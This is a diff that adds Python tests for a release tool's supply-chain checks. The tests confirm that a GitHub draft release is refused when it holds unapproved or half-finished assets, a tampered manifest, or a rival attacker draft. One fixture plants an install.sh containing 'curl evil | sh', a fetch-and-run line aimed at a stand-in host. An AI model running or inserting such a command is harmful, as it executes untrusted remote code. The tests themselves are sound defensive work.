@@ -145,3 +145,97 @@ def test_delete_drops_the_draft(tmp_path: Path) -> None:
     store.upload(manifest, files)
     store.delete()
     assert fake.releases == {}
+
+
+# -- the draft holds exactly the approved files (and valet's own manifest.json) ----------
+
+
+def _reader(fake: FakeGitHub, release_id: int | None, sha: str | None = SHA):  # type: ignore[no-untyped-def]
+    return GitHubReleaseStore(gh=fake, session=fake, repo="o/r", tag="1.3.0",  # type: ignore[arg-type]
+                              version="1.3.0", release_id=release_id, sha=sha)
+
+
+def test_an_extra_asset_on_the_draft_refuses_before_any_download(tmp_path: Path) -> None:
+    """An SDK committer uploads install.sh to the draft after the request: the approved
+    files all verify, but the draft would go public with it."""
+    fake, store, manifest, files = _setup(tmp_path)
+    ref = store.upload(manifest, files)
+    fake.add_asset(ref.release_id, "install.sh", b"curl evil | sh\n")
+    fake.log.clear()
+    with pytest.raises(IntegrityError, match="install.sh") as err:
+        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                       tmp_path / "dl")
+    assert "not approved" in err.value.message
+    assert not [u for op, u in fake.log if op == "GET" and "/releases/assets/" in u]
+    assert not (tmp_path / "dl").exists() or not list((tmp_path / "dl").iterdir())
+
+
+def test_a_half_finished_upload_counts_as_an_extra_file(tmp_path: Path) -> None:
+    fake, store, manifest, files = _setup(tmp_path)
+    ref = store.upload(manifest, files)
+    fake.add_asset(ref.release_id, "install.sh", b"curl", state="starter")
+    with pytest.raises(IntegrityError, match=r"install.sh \(a half-finished upload, state "
+                                             r"starter"):
+        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                       tmp_path / "dl")
+
+
+def test_an_approved_name_held_twice_is_refused(tmp_path: Path) -> None:
+    """GitHub keeps names unique per release, but a half-finished upload can hold the
+    name beside the real one: the copy nobody approved counts as extra."""
+    fake, store, manifest, files = _setup(tmp_path)
+    ref = store.upload(manifest, files)
+    fake.add_asset(ref.release_id, "pkg-1.3.0.tar.gz", b"tarb", state="new")
+    with pytest.raises(IntegrityError, match=r"pkg-1.3.0.tar.gz \(a half-finished upload"):
+        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                       tmp_path / "dl")
+
+
+def test_a_manifest_other_than_valets_own_is_refused(tmp_path: Path) -> None:
+    """manifest.json goes public with the release: it must be the one valet wrote for
+    this request (its bytes follow from the request), not one an SDK committer put there."""
+    fake, store, manifest, files = _setup(tmp_path)
+    ref = store.upload(manifest, files)
+    (aid,) = [i for i, a in fake.assets.items() if a["name"] == "manifest.json"]
+    fake.assets[aid]["data"] = b'{"files": [], "note": "trust install.sh"}\n'
+    with pytest.raises(IntegrityError, match="manifest.json"):
+        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                       tmp_path / "dl")
+    # valet's own manifest passes (the baseline of the case above)
+    fake.assets[aid]["data"] = manifest.dumps().encode()
+    got = _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                         tmp_path / "ok")
+    assert sorted(got) == sorted(files)
+
+
+def test_a_deleted_approved_asset_is_refused(tmp_path: Path) -> None:
+    fake, store, manifest, files = _setup(tmp_path)
+    ref = store.upload(manifest, files)
+    (aid,) = [i for i, a in fake.assets.items() if a["name"] == "pkg-1.3.0.tar.gz"]
+    del fake.assets[aid]
+    with pytest.raises(IntegrityError, match="lacks pkg-1.3.0.tar.gz"):
+        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                       tmp_path / "dl")
+
+
+def test_the_recorded_draft_is_used_never_another_draft_of_the_tag(tmp_path: Path) -> None:
+    """GitHub lets several drafts share a tag: an attacker's second draft with other bytes
+    under the approved names is never read; if the recorded draft is gone, nothing is."""
+    fake, store, manifest, files = _setup(tmp_path)
+    ref = store.upload(manifest, files)
+    evil = fake.create_git_release("1.3.0", "1.3.0", "", draft=True)
+    # made the older one (a lower id), so "the oldest draft of the tag" would be it
+    fake.releases[1] = fake.releases.pop(evil.id)
+    evil.id = 1
+    for art in manifest.artifacts:
+        fake.add_asset(evil.id, art.name, b"E" * art.size)
+    fake.add_asset(evil.id, "manifest.json", manifest.dumps().encode())
+    assert _reader(fake, None).find_release() is evil  # what an unrecorded id would pick
+    got = _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                         tmp_path / "dl")
+    for name, path in got.items():
+        assert path.read_bytes() == files[name].read_bytes()
+    del fake.releases[ref.release_id]
+    with pytest.raises(IntegrityError):
+        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
+                                                       tmp_path / "dl2")
